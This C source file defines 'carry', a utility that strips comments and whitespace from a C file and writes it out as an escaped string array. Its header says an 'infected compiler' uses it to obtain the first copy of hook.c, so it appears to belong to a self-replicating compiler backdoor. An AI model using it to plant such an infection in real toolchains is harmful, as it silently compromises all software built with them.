/*
 * carry - make a program's text a value that the program can hold.
 *
 *     carry INPUT.c OUTPUT.c
 *
 * writes the declaration of an array, carried, that holds INPUT.c without its
 * comments and on one line. The infected compiler needs it once, to get the
 * first copy of hook.c; later ones come from the copy.
 */

char input[100000];
char kept[100000];
char output[250000];
int end;

int put(char *s)
{
	int i;
	for (i = 0; s[i]; i++)
		output[end++] = s[i];
}

/* squeeze copies the input to kept. Blanks, ends of lines and comments become
   one blank; constants stay as they are. */
int squeeze()
{
	char *s = input;
	int n = 0, quote = 0;
	while (*s) {
		if (quote) {
			if (*s == '\\')
				kept[n++] = *s++;
			else if (*s == quote)
				quote = 0;
			kept[n++] = *s++;
		} else if (*s == '/' && s[1] == '*') {
			s += 2;
			while (*s != '*' || s[1] != '/')
				s++;
			s += 2;
		} else if (*s == ' ' || *s == '\t' || *s == '\n') {
			if (n && kept[n - 1] != ' ')
				kept[n++] = ' ';
			s++;
		} else {
			if (*s == '"' || *s == '\'')
				quote = *s;
			kept[n++] = *s++;
		}
	}
}

int main(int argc, char **argv)
{
	int i, n, size = 0, file = syscall(2, argv[1], 0, 0);
	while ((n = syscall(0, file, input + size, 99999 - size)) > 0)
		size += n;
	squeeze();
	put("char carried[] = \"");
	for (i = 0; kept[i]; i++) {
		if (kept[i] == '"' || kept[i] == '\\')
			output[end++] = '\\';
		output[end++] = kept[i];
	}
	put("\";\n");
	file = syscall(2, argv[2], 577, 420); /* open: write only, create, truncate; mode 0644 */
	return size == 0 || file < 0 || syscall(1, file, output, end) != end;
}
